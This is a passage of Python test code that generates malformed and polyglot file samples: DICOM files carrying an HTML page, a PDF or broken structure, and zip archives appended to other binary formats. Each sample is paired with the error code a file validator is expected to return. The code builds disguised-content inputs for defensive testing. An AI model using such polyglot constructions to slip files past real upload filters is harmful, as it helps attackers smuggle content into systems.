        ("DICOM with a page in its preamble", s.dicom(preamble=PAGE.ljust(128)), "file_two_kinds"),
        (
            "DICOM around a PDF",
            s.dicom(head=s.described(sop=b"1.2.840.10008.5.1.4.1.1.104.1")),
            "file_two_kinds",
        ),
        (
            "DICOM with a PDF in it",
            s.dicom(s.element(0x00420011, b"OB", s.pdf()) + s.PIXELS),
            "file_two_kinds",
        ),
        ("DICOM without description", s.dicom(head=s.element(0x00020000, b"UL", bytes(4))), "file_damaged"),
        ("DICOM of a retired syntax", s.dicom(head=s.described(b"1.2.840.10008.1.2.2\x00")), "file_damaged"),
        ("deflated DICOM", s.dicom(head=s.described(b"1.2.840.10008.1.2.1.99")), "file_damaged"),
        (
            "DICOM whose picture is missing",
            s.dicom(s.element(0x00280010, b"US", b"\x04\x00")),
            "file_cut_off",
        ),
        ("DICOM of no elements", s.dicom(b""), "file_cut_off"),
        ("DICOM with an element of no form", s.dicom(s.element(0x00100010, b"??", b"ZHAO")), "file_damaged"),
        ("DICOM with a list without end", s.dicom(endless + s.PIXELS), "file_damaged"),
        ("DICOM nested too deep", s.dicom(deep + s.PIXELS), "file_damaged"),
        ("DICOM before a page", s.dicom() + PAGE, "file_two_kinds"),
    ):
        yield Hostile(what, "CT.dcm", content, code)


def stowaways() -> Iterator[Hostile]:
    """An archive at the end of every kind that is none itself."""
    for kind in BINARY:
        name = f"材料.{FORMATS[kind].extensions[0]}"
        code = "file_damaged" if kind in ARCHIVES else "file_two_kinds"
        yield Hostile(f"zip archive behind {kind}", name, s.PLAIN[kind] + ZIP, code)
        if kind not in ARCHIVES:
            commented = ZIP[:-2] + b"\x03\x00end"
            yield Hostile(f"zip archive with a comment behind {kind}", name, s.PLAIN[kind] + commented, code)
